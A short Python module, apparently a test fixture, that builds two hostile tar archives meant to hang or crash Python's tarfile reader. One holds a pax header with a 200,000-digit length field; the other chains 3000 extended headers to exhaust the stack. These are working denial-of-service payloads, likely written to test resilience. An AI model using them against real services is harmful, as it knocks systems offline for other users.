"""Archives made to stop or crash whoever opens them with ``tarfile``."""

from __future__ import annotations

import tarfile

_BLOCK = 512


def hostile() -> dict[str, bytes]:
    """By name: ``tarfile`` needs over a minute for the digits, and more stack than there is for the chain."""
    return {"digits": _extension(b"1" * 200_000), "chain": _extension(b"12 a=bcdefg\n") * 3000}


def _extension(content: bytes) -> bytes:
    member = tarfile.TarInfo("extension")
    member.type, member.size = tarfile.XHDTYPE, len(content)
    return member.tobuf(tarfile.USTAR_FORMAT) + content + bytes(-len(content) % _BLOCK)
